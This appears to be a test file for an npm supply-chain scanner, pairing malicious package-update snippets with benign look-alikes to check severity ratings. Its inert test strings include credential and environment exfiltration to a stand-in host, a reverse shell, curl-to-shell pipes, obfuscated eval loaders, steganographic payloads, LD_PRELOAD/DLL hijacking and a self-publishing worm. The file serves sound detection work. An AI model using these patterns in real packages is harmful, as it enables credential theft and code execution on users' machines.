/**
 * Behaviour chains and the indicators of issue #17, family by family: each has cases that must reach high (or
 * critical) and look-alikes that must not. The snippets here are written for these tests (the bench's corpus,
 * bench/detect/corpus.ts, is a separate, larger set), inert, and never run.
 */
import { strict as assert } from 'node:assert';
import { analyzeContentChange } from '../../../src/core/content';
import { parseCommand } from '../../../src/core/content/lifecycle';
import { scanFile } from '../../../src/core/content/scan';
import type { PackageContents, PackageFile } from '../../../src/core/content/types';
import type { RawFinding } from '../../../src/core/trust/context';
import { SEVERITIES, type FindingCode, type Severity } from '../../../src/core/trust/types';
import { finishesWithinHangGuard } from '../../support/wait';

function pkg(version: string, files: Record<string, string | Buffer>, scripts?: Record<string, string>, name = 'lib'): PackageContents {
  const map = new Map<string, PackageFile>();
  const manifest: Record<string, unknown> = { name, version, main: 'index.js', ...(scripts ? { scripts } : {}) };
  const all: Record<string, string | Buffer> = { 'package.json': JSON.stringify(manifest), ...files };
  let bytes = 0;
  for (const [p, d] of Object.entries(all)) {
    const data = Buffer.isBuffer(d) ? d : Buffer.from(d, 'utf8');
    map.set(p, { path: p, size: data.length, mode: 0o644, data });
    bytes += data.length;
  }
  return { name, version, files: map, manifest, bytesRead: bytes, unpackedSize: bytes, fileCount: map.size };
}

const BASE = `'use strict';\nfunction format(x) {\n  return String(x).trim();\n}\nmodule.exports = { format };\n`;
const V1 = pkg('1.0.0', { 'index.js': BASE });

/** The next release with `code` appended to index.js, or with extra files (index.js requiring the first). */
function next(code: string | Record<string, string | Buffer>, scripts?: Record<string, string>, base = V1): PackageContents {
  const files: Record<string, string | Buffer> = {};
  for (const [p, f] of base.files) if (p !== 'package.json') files[p] = f.data!;
  if (typeof code === 'string') files['index.js'] = `${BASE}${code}\n`;
  else {
    Object.assign(files, code);
    if (!scripts) files['index.js'] = `${BASE}require('./${Object.keys(code)[0].replace(/\.js$/, '')}');\n`;
  }
  return pkg('1.0.1', files, scripts ?? (base.manifest?.scripts as Record<string, string> | undefined));
}

const rank = (s: Severity) => SEVERITIES.indexOf(s);
const maxOf = (fs: RawFinding[]): Severity | undefined =>
  fs.reduce<Severity | undefined>((m, f) => (!m || rank(f.severity) > rank(m) ? f.severity : m), undefined);
const run = (current: PackageContents, previous: PackageContents = V1) => analyzeContentChange({ current, previous });
const find = (fs: RawFinding[], code: FindingCode) => fs.find((f) => f.code === code);
const summary = (fs: RawFinding[]) => fs.map((f) => `${f.code} ${f.severity}: ${f.message}`).join('\n');

function high(fs: RawFinding[], code?: FindingCode): RawFinding | undefined {
  const f = code ? find(fs, code) : fs.find((x) => rank(x.severity) >= rank('high'));
  assert.ok(f && rank(f.severity) >= rank('high'), `expected ${code ?? 'a finding'} at high or above:\n${summary(fs)}`);
  return f;
}
function notHigh(fs: RawFinding[]): void {
  const m = maxOf(fs);
  assert.ok(!m || rank(m) < rank('high'), `expected nothing at high:\n${summary(fs)}`);
}

const H = 'collect.example.invalid';

describe('content analysis: behaviour chains (issue #17)', () => {
  describe('environment', () => {
    it('the environment read through brackets or an alias, serialised and posted, is high', () => {
      const a = high(
        run(next(`const e = process["env"];\nrequire('https').request({ hostname: '${H}', method: 'POST' }).end(JSON.stringify(e));`)),
        'content-credentials',
      )!;
      assert.match(a.message, /sends it out \(JSON\.stringify → https\)/);
      high(
        run(next(`const p = process;\nfetch('https://${H}/', { method: 'POST', body: Buffer.from(JSON.stringify(p['env'])).toString('base64') });`)),
        'content-credentials',
      );
      high(
        run(next(`const { env } = process;\nrequire('net').connect(443, '${H}').end(require('zlib').gzipSync(JSON.stringify(env)));`)),
        'content-credentials',
      );
      high(run(next(`const q = new URLSearchParams(globalThis.process.env).toString();\nrequire('https').get('https://${H}/?' + q);`)), 'content-credentials');
    });
    it('a bundler define, a prefix config loader and a proxy-aware client are not high', () => {
      notHigh(run(next({ 'lib/define.js': `module.exports = () => ({ 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV || 'production') });\n` })));
      notHigh(
        run(
          next({
            'lib/cfg.js': `const out = {};\nfor (const k of Object.keys(process.env).filter((k) => k.startsWith('APP_'))) out[k] = process.env[k];\nif (process.env.APP_DEBUG) console.error(JSON.stringify(out));\nmodule.exports = out;\n`,
          }),
        ),
      );
      notHigh(
        run(
          next({
            'lib/http.js': `const https = require('https');\nexports.post = (url, body) => { const p = process.env.HTTPS_PROXY; const r = https.request(url, { method: 'POST' }); r.end(JSON.stringify(body)); return p; };\n`,
          }),
        ),
      );
    });
  });

  describe('credential files', () => {
    it('a file read in one module and posted in another, joined by a new entry point, is high', () => {
      const f = high(
        run(
          next({
            'lib/init.js': `const read = require('./profile');\nconst send = require('./report');\nsend(JSON.stringify({ c: read() }));\n`,
            'lib/profile.js': `const fs = require('fs'), os = require('os'), path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n`,
            'lib/report.js': `const https = require('https');\nmodule.exports = (b) => https.request({ hostname: '${H}', method: 'POST' }).end(b);\n`,
          }),
        ),
        'content-credentials',
      )!;
      assert.match(f.message, /\.aws — sends it out \(JSON\.stringify → https in lib\/report\.js\)/);
    });
    it('reading ~/.ssh/config for host names, with no network, is not high; nor is a chain the previous release had', () => {
      notHigh(
        run(
          next({
            'lib/hosts.js': `const fs = require('fs'), os = require('os'), path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8').split('\\n').filter((l) => /^Host /.test(l));\n`,
          }),
        ),
      );
      const chain = `const fs = require('fs');\nconst t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://${H}/', { method: 'POST', body: t });\n`;
      const before = pkg('1.0.0', { 'index.js': BASE, 'lib/publish.js': chain });
      notHigh(run(pkg('1.0.1', { 'index.js': BASE, 'lib/publish.js': `${chain}// 1.0.1\n` }), before));
    });
  });

  describe('host and user information', () => {
    it('hostname, user and interfaces serialised and sent are high (also through whoami and DNS)', () => {
      high(
        run(
          next(
            `const os = require('os');\nrequire('https').request({ hostname: '${H}', method: 'POST' }).end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces() }));`,
          ),
        ),
        'content-credentials',
      );
      high(
        run(
          next(
            `const cp = require('child_process');\nconst u = cp.execSync('whoami').toString();\nrequire('http').get('http://${H}/?u=' + encodeURIComponent(u));`,
          ),
        ),
      );
      high(run(next(`const label = Buffer.from(require('os').hostname()).toString('hex');\nrequire('dns').lookup(label + '.${H}', () => {});`)));
    });
    it('a logger stamping the hostname, a dev server printing LAN URLs and a MAC-derived id are not high', () => {
      notHigh(
        run(
          next({
            'lib/log.js': `const os = require('os');\nmodule.exports = (msg) => process.stdout.write(JSON.stringify({ hostname: os.hostname(), pid: process.pid, msg }) + '\\n');\n`,
          }),
        ),
      );
      notHigh(
        run(
          next({
            'lib/serve.js': `const http = require('http'), os = require('os');\nexports.serve = (h) => http.createServer(h).listen(3000, () => { for (const l of Object.values(os.networkInterfaces())) for (const i of l) if (!i.internal) console.log('http://' + i.address + ':3000'); });\n`,
          }),
        ),
      );
      notHigh(
        run(
          next({
            'lib/id.js': `const os = require('os'), crypto = require('crypto');\nmodule.exports = () => crypto.createHash('sha256').update(os.hostname()).digest('hex');\n`,
          }),
        ),
      );
    });
  });

  describe('decoders feeding code sinks', () => {
    const stage = Buffer.from(`require('https').get('https://stage.example.invalid/x')`);
    it('hex pairs, XOR loops, ROT shifts, base64 into vm and packer variants are high', () => {
      const hex = stage.toString('hex');
      high(run(next(`var h='${hex}',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s);`)), 'content-obfuscation');
      const xored = Buffer.from([...stage].map((c) => c ^ 0x33)).toString('base64');
      high(
        run(
          next({
            'lib/c.js': `const b = Buffer.from('${xored}', 'base64');\nfor (let i = 0; i < b.length; i++) b[i] ^= 0x33;\nnew Function(b.toString())();\n`,
          }),
        ),
        'content-obfuscation',
      );
      high(
        run(next(`var r=t.replace(/[a-z]/gi,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26);});eval(r);`)),
        'content-obfuscation',
      );
      high(
        run(next({ 'lib/v.js': `const vm = require('vm');\nvm.runInThisContext(Buffer.from('${stage.toString('base64')}', 'base64').toString());\n` })),
        'content-obfuscation',
      );
      const f = high(run(next(`eval(function(w,i,s,e,r,k){return w}('x',1,1,'',0,{}))`)), 'content-obfuscation')!;
      assert.match(f.message, /self-decoding eval/);
    });
    it('a template compiler, a colour parser and an inline source map reader are not high', () => {
      notHigh(run(next({ 'lib/t.js': `exports.compile = (tpl) => new Function('data', 'return ' + JSON.stringify(tpl));\n` })));
      notHigh(run(next({ 'lib/hex.js': `exports.rgb = (h) => [0, 2, 4].map((i) => parseInt(h.substr(i, 2), 16));\n` })));
      notHigh(
        run(
          next({
            'lib/map.js': `exports.map = (text) => { const m = /base64,(\\S+)$/.exec(text); return m ? JSON.parse(Buffer.from(m[1], 'base64').toString()) : null; };\n`,
          }),
        ),
      );
    });
  });

  describe('reflective and computed access', () => {
    it('names built from pieces count as the API itself, and as obfuscation', () => {
      const fs = run(next(`global['req'+'uire']('chi'+'ld_pro'+'cess')['ex'+'ecSync']('id');`));
      high(fs, 'content-obfuscation');
      assert.ok(find(fs, 'content-process'), summary(fs));
      high(run(next({ 'lib/p.js': `const a = 'child', b = 'process';\nrequire(\`\${a}_\${b}\`).exec('id');\n` })), 'content-obfuscation');
      high(run(next(`var n=String.fromCharCode(101,118,97,108);globalThis[n](x);`)), 'content-obfuscation');
      high(run(next(`Reflect.get(globalThis, 'ev' + 'al')(code);`)), 'content-obfuscation');
    });
    it('Reflect.get in a Proxy, polyfills on globalThis and locale requires are nothing', () => {
      const fs = run(
        next({
          'lib/l.js': `exports.load = (l) => require('./locales/' + l);\nexports.strict = (o) => new Proxy(o, { get(t, p, r) { return Reflect.get(t, p, r); } });\nexports.poly = (n, f) => { if (!globalThis[n]) globalThis[n] = f; };\nexports.msg = 'Use the ' + 'exec' + ' option';\n`,
        }),
      );
      assert.deepEqual(fs, []);
    });
  });

  describe('silent launches', () => {
    it('a hidden, detached launch of its own code is high', () => {
      const f = high(
        run(next(`require('child_process').spawn(process.execPath, [__dirname + '/w.js'], { detached: true, stdio: 'ignore' }).unref();`)),
        'content-process',
      )!;
      assert.match(f.message, /hidden, detached processes \(detached-code\)/);
      high(
        run(
          next(`require('child_process').exec('nohup node ' + __dirname + '/x.js > /dev/null 2>&1 &');`),
          pkg('1.0.0', { 'index.js': `${BASE}require('child_process');\n` }),
        ),
        'content-process',
      );
    });
    it('opening a browser detached is medium at most; spawning git is medium', () => {
      notHigh(
        run(
          next({
            'lib/open.js': `const { spawn } = require('child_process');\nmodule.exports = (url) => spawn(process.platform === 'darwin' ? 'open' : 'xdg-open', [url], { detached: true, stdio: 'ignore' }).unref();\n`,
          }),
        ),
      );
      notHigh(
        run(
          next({
            'lib/git.js': `const { execFileSync } = require('child_process');\nexports.head = () => execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8', windowsHide: true });\n`,
          }),
        ),
      );
    });
  });

  describe('LD_PRELOAD, DLL hijacking, rundll32', () => {
    it('setting LD_PRELOAD, writing /etc/ld.so.preload or placing a DLL is content-persistence; rundll32 on a DLL is content-process', () => {
      high(run(next(`require('child_process').spawnSync('git', [], { env: { ...process.env, LD_PRELOAD: __dirname + '/x.so' } });`)), 'content-persistence');
      high(run(next(`require('fs').appendFileSync('/etc/ld.so.preload', __dirname + '/x.so');`)), 'content-persistence');
      high(
        run(
          next(
            `const fs = require('fs'), path = require('path');\nfs.copyFileSync(path.join(__dirname, 'version.dll'), path.join(process.env.LOCALAPPDATA, 'Microsoft', 'Teams', 'version.dll'));`,
          ),
        ),
        'content-persistence',
      );
      high(run(next(`require('child_process').execSync('rundll32.exe ' + __dirname + '\\\\x.dll,DllRegisterServer');`)), 'content-process');
    });
    it('opening a URL with rundll32 url.dll and an error message naming LD_PRELOAD are not high', () => {
      notHigh(
        run(
          next({
            'lib/o.js': `const { execFile } = require('child_process');\nmodule.exports = (u) => execFile('rundll32', ['url.dll,FileProtocolHandler', u]);\n`,
          }),
        ),
      );
      assert.deepEqual(run(next(`exports.hint = 'If it crashes, try running without LD_PRELOAD set.';`)), []);
    });
  });

  describe('steganography', () => {
    it('code read from an image or hidden as invisible characters, then run, is high', () => {
      const f = high(
        run(
          next({
            'lib/logo.js': `const fs = require('fs');\nconst img = fs.readFileSync(__dirname + '/logo.png');\neval(img.slice(img.indexOf('IEND') + 8).toString());\n`,
            'lib/logo.png': Buffer.from('89504e47', 'hex'),
          }),
        ),
        'content-obfuscation',
      )!;
      assert.match(f.message, /code hidden in logo\.png run through eval/);
      const hidden = [...Buffer.from("require('https').get('https://x.example.invalid')")]
        .map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16))
        .join('');
      high(
        run(next({ 'lib/s.js': `const s = '${hidden}';\neval(Buffer.from([...s].map((c) => c.codePointAt(0) - 0xe0100 + 16)).toString());\n` })),
        'content-obfuscation',
      );
    });
    it('reading a PNG header for its size and serving a favicon are nothing', () => {
      assert.deepEqual(
        run(
          next({
            'lib/size.js': `const fs = require('fs');\nexports.size = (f) => { const b = fs.readFileSync(f.endsWith('.png') ? f : f + '.png'); return b.readUInt32BE(16); };\nexports.icon = fs.readFileSync(__dirname + '/favicon.ico');\n`,
            'lib/favicon.ico': Buffer.from('0000', 'hex'),
          }),
        ),
        [],
      );
    });
  });

  describe('worms', () => {
    const worm = `const fs = require('fs'), { execSync } = require('child_process');\nconst m = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nm.scripts = { ...m.scripts, postinstall: 'node w.js' };\nfs.writeFileSync('package.json', JSON.stringify(m));\nfs.copyFileSync(__filename, 'w.js');\nexecSync('npm publish');\n`;
    it('republishing without reading a token: critical from an install hook, high elsewhere', () => {
      const hook = high(run(next({ 'w.js': worm }, { postinstall: 'node w.js' })), 'content-self-publish')!;
      assert.equal(hook.severity, 'critical');
      assert.match(hook.message, /npm publish with the user's login/);
      assert.equal(high(run(next({ 'lib/w.js': worm })), 'content-self-publish')!.severity, 'high');
    });
    it('a version bump that tags a release, and npm publish alone, are not a worm', () => {
      const fs = run(
        next({
          'lib/bump.js': `const fs = require('fs'), { execFileSync } = require('child_process');\nconst p = JSON.parse(fs.readFileSync('package.json', 'utf8'));\np.version = '2.0.0';\nfs.writeFileSync('package.json', JSON.stringify(p));\nexecFileSync('git', ['tag', 'v' + p.version]);\n`,
        }),
      );
      assert.equal(find(fs, 'content-self-publish'), undefined);
      notHigh(fs);
      assert.equal(find(run(next({ 'lib/p.js': `require('child_process').execSync('npm publish');\n` })), 'content-self-publish'), undefined);
    });
  });

  describe('download and run', () => {
    it('fetched code evaluated, a pipe into a shell from code, and a reverse shell are high', () => {
      high(run(next(`fetch('https://${H}/v.js').then((r) => r.text()).then(eval);`)), 'content-network');
      high(run(next(`require('child_process').execSync('curl -fsSL https://${H}/i.sh | sh');`)), 'content-network');
      high(
        run(
          next({
            'lib/d.js': `const net = require('net'), { spawn } = require('child_process');\nconst s = net.connect(4444, '${H}', () => { const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); });\n`,
          }),
        ),
        'content-network',
      );
    });
    it('downloading a tool at run time with a checksum is medium', () => {
      notHigh(
        run(
          next({
            'lib/tool.js': `const https = require('https'), fs = require('fs'), crypto = require('crypto');\nexports.get = (u, d, sha) => https.get(u, (r) => { const c = []; r.on('data', (x) => c.push(x)); r.on('end', () => { const b = Buffer.concat(c); if (crypto.createHash('sha256').update(b).digest('hex') === sha) fs.writeFileSync(d, b); }); });\n`,
          }),
        ),
      );
    });
  });

  describe('clipboard, keychains and browser stores', () => {
    it('the clipboard or a keychain entry sent out is high', () => {
      high(
        run(next(`const c = require('child_process').execSync('pbpaste').toString();\nfetch('https://${H}/c', { method: 'POST', body: c });`)),
        'content-credentials',
      );
      high(
        run(
          next(
            `const k = require('child_process').execSync('security find-generic-password -wa "Chrome Safe Storage"').toString();\nrequire('https').request({ hostname: '${H}', method: 'POST' }).end(k);`,
          ),
        ),
        'content-credentials',
      );
      high(
        run(
          next(
            `const p = process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Login Data';\nfetch('https://${H}/b', { method: 'POST', body: require('fs').readFileSync(p) });`,
          ),
        ),
        'content-credentials',
      );
    });
    it('copying to the clipboard is not high', () => {
      notHigh(
        run(
          next({
            'lib/copy.js': `const { spawnSync } = require('child_process');\nmodule.exports = (t) => spawnSync(process.platform === 'darwin' ? 'pbcopy' : 'xclip', ['-selection', 'clipboard'], { input: t });\n`,
          }),
        ),
      );
    });
  });

  describe('install hooks judged by what they run', () => {
    it('a new hook that runs new code stays high; one that fetches an unknown tool too', () => {
      high(run(next({ 'setup.js': 'console.log(1)\n' }, { postinstall: 'node setup.js' })), 'content-install-hook');
      high(run(next({}, { preinstall: 'npx some-setup-tool init' })), 'content-install-hook');
    });
    it('npx only-allow pnpm, husky and a funding notice are low, with the tool named', () => {
      for (const [cmd, tool] of [
        ['npx only-allow pnpm', /only-allow \(a package-manager guard\), through npx/],
        ['husky', /husky \(git hooks for contributors\)/],
        ['is-ci || husky install', /is-ci and husky/],
        ['opencollective-postinstall || true', /opencollective-postinstall \(a funding message\)/],
      ] as const) {
        const fs = run(next({}, { preinstall: cmd }));
        const f = find(fs, 'content-install-hook')!;
        assert.equal(f.severity, 'low', `${cmd}: ${summary(fs)}`);
        assert.match(f.message, tool);
        assert.ok(f.evidence.some((e) => e.label === 'well-known tool'));
        notHigh(fs);
      }
    });
    it('node-gyp rebuild is low only for a package that already had native code', () => {
      const native = pkg('1.0.0', { 'index.js': BASE, 'src/a.cc': '//', 'build/Release/a.node': Buffer.from([0x7f, 0x45, 0x4c, 0x46]) });
      assert.equal(find(run(next({}, { install: 'node-gyp rebuild' }, native), native), 'content-install-hook')!.severity, 'low');
      assert.equal(find(run(next({}, { install: 'node-gyp rebuild' })), 'content-install-hook')!.severity, 'high');
    });
    it("a script whose only change is the package's own version is unchanged (unrs-resolver 1.11.0 → 1.11.1)", () => {
      const a = pkg('1.11.0', { 'index.js': BASE }, { postinstall: 'napi-postinstall unrs-resolver 1.11.0 check' }, 'unrs-resolver');
      const b = pkg('1.11.1', { 'index.js': BASE }, { postinstall: 'napi-postinstall unrs-resolver 1.11.1 check' }, 'unrs-resolver');
      assert.deepEqual(run(b, a), []);
      const c = pkg('1.11.1', { 'index.js': BASE }, { postinstall: 'napi-postinstall other-package 1.11.1 check' }, 'unrs-resolver');
      assert.ok(find(run(c, a), 'content-install-hook'));
    });
    it('the command parser sees what benign hooks run', () => {
      assert.deepEqual(parseCommand('npx only-allow pnpm').downloads, ['npx only-allow']);
      assert.deepEqual(parseCommand('is-ci || husky install').tools, ['is-ci', 'husky']);
    });
  });

  // Hang guard, not a speed target: the new patterns on 5 MB of adversarial text each finish.
  it('behaviour patterns are linear: 5 MB adversarial inputs each finish (hang guard)', function () {
    this.timeout(120_000);
    const five = 5 * 1024 * 1024;
    const inv = String.fromCodePoint(0xe0100);
    const cases: Record<string, string> = {
      'string pieces': "'a'+".repeat(five / 4),
      'pieces without end': "'aaaaaaaaaaaaaaaaaaaaaaaaa' + ".repeat(five / 30),
      'unterminated literals': "'+'".repeat(five / 3),
      declarations: 'const a = ['.repeat(five / 11),
      declarators: "var a='x',".repeat(five / 10),
      joins: "['a','b'].join(".repeat(five / 15),
      'char codes': 'String.fromCharCode(1,'.repeat(five / 22),
      reversals: ".split('').reverse().join('')".repeat(five / 30),
      globals: 'globalThis['.repeat(five / 11),
      reflect: 'Reflect.get(process,'.repeat(five / 20),
      detached: 'detached: true, '.repeat(five / 16),
      xor: 'b[i] ^= '.repeat(five / 8),
      'image reads': "readFileSync('a.png' ".repeat(five / 21),
      invisible: inv.repeat(five / 4),
      'invisible broken': `${inv}a`.repeat(five / 5),
      'curl pipes': 'curl | curl '.repeat(five / 12),
      'env brackets': "process['env']".repeat(five / 14),
      templates: '`${'.repeat(five / 3),
    };
    for (const [name, text] of Object.entries(cases)) {
      const data = Buffer.from(text, name.startsWith('invisible') ? 'utf8' : 'latin1');
      const latin = data.toString('latin1');
      finishesWithinHangGuard(name, () => scanFile('x.js', 'js', data, latin));
    }
  });
});
